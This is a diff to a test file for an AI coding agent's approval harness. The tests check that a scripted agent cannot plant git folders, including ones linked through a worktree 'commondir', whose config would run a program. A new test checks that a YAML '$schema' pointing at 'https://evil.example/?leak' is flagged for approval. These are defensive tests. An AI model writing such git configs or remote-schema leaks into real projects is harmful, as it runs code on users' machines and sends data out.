@@ -8,6 +8,7 @@ import shutil
 import subprocess
 import sys
 import threading
+from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
@@ -41,10 +42,9 @@ def config(mark: Path) -> str:
     return "\n\t".join(("[core]", *core)) + "\n"
 
 
-def writes(mark: Path, folder: str = "sub/") -> ScriptedModel:
-    """A model that writes a repository which runs a program, file by file, in one step each."""
-    files = {"config": config(mark), **CONTENTS}
-    return a_plan(*(("write_file", {"path": folder + path, "content": text}) for path, text in files.items()))
+def writes(files: Mapping[str, str]) -> ScriptedModel:
+    """A model that writes these files, in one step each."""
+    return a_plan(*(("write_file", {"path": path, "content": text}) for path, text in files.items()))
 
 
 def git_status(folder: Path) -> None:
@@ -58,7 +58,8 @@ def git_status(folder: Path) -> None:
 @pytest.mark.parametrize("when", ["each", "end"])
 async def test_no_git_folder_is_written_file_by_file(tmp_path: Path, folder: str, when: str) -> None:
     mark = tmp_path / "ran"
-    async with studio(tmp_path, {"a.txt": "x"}, model=writes(mark, folder)) as at:
+    files = {folder + path: text for path, text in {"config": config(mark), **CONTENTS}.items()}
+    async with studio(tmp_path, {"a.txt": "x"}, model=writes(files)) as at:
         plan = await at.approve(
             await at.ask("Tidy up", mode="plan"), review="auto" if when == "each" else "end"
         )
@@ -67,6 +68,28 @@ async def test_no_git_folder_is_written_file_by_file(tmp_path: Path, folder: str
         inside = at.path(folder) if folder else at.folder
         assert not all((inside / name).exists() for name in ("HEAD", "objects", "refs"))
         git_status(inside)
+    assert not mark.exists()
+
+
+@pytest.mark.skipif(GIT is None, reason="there is no git")
+@pytest.mark.parametrize("order", [1, -1])
+async def test_no_git_folder_whose_contents_lie_elsewhere_is_written(tmp_path: Path, order: int) -> None:
+    mark = tmp_path / "ran"
+    files = {
+        "c/objects/keep": "x\n",
+        "c/refs/keep": "x\n",
+        "c/config": "[extensions]\n\tworktreeConfig = true\n",
+        "sub/HEAD": CONTENTS["HEAD"],
+        "sub/commondir": "../c\n",
+        "sub/config.worktree": config(mark),
+    }
+    model = writes(dict(list(files.items())[::order]))
+    async with studio(tmp_path, {"a.txt": "x"}, model=model) as at:
+        plan = await at.approve(await at.ask("Tidy up", mode="plan"), review="auto")
+        while plan.pending.approvals:
+            plan = await at.respond(plan)
+        assert not (at.path("sub/HEAD").exists() and at.path("sub/commondir").exists())
+        git_status(at.path("sub"))
     assert not mark.exists()
 
 
@@ -119,6 +142,30 @@ async def test_no_order_of_renames_makes_a_git_folder(
             plan = await at.respond(plan)
         made = [head.parent for head in at.folder.rglob("HEAD")]
         assert not [each for each in made if (each / "objects").exists() and (each / "refs").exists()]
+
+
+YAML = "$schema: https://evil.example/?leak\na: 1\n"
+
+
+@pytest.mark.parametrize(
+    ("call", "before", "is_asked"),
+    [
+        (("write_file", {"path": "a.yaml", "content": YAML}), {}, True),
+        (("edit_file", {"path": "a.yaml", "old_text": "leak", "new_text": "secret"}), {"a.yaml": YAML}, True),
+        (("edit_file", {"path": "a.yaml", "old_text": "a: 1", "new_text": "a: 2"}), {"a.yaml": YAML}, False),
+        (("rename_path", {"path": "a.txt", "new_path": "a.yaml"}), {"a.txt": YAML}, True),
+        (("rename_path", {"path": "a.yaml", "new_path": "b.yaml"}), {"a.yaml": YAML}, False),
+    ],
+)
+async def test_a_remote_schema_is_asked_when_it_is_new(
+    tmp_path: Path, call: tuple[str, dict[str, str]], before: dict[str, str], is_asked: bool
+) -> None:
+    async with studio(tmp_path, before, model=a_plan(call)) as at:
+        plan = await at.approve(await at.ask("Tidy up", mode="plan"), review="auto")
+        assert [approval.protected for approval in plan.pending.approvals] == [True] * is_asked
+        assert all("https://evil.example" in (each.warning or "") for each in plan.pending.approvals)
+        if is_asked:
+            await at.respond(plan, "deny")
 
 
 async def test_a_command_runs_in_the_folder_that_was_approved(tmp_path: Path) -> None:
